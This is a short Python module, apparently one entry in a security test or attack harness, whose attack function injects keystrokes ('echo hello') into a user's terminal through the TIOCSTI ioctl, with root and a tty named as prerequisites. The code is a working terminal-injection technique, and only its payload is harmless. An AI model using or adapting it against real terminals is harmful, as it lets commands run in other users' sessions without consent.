"""Type a command into the user's terminal, TIOCSTI.

evidence: tty
needs: root
"""

import fcntl
import os


def attack(arena: dict[str, str]) -> None:
    terminal = os.open(arena["tty"], os.O_RDWR | os.O_NOCTTY)
    for letter in b"echo hello":
        fcntl.ioctl(terminal, 0x5412, bytes([letter]))
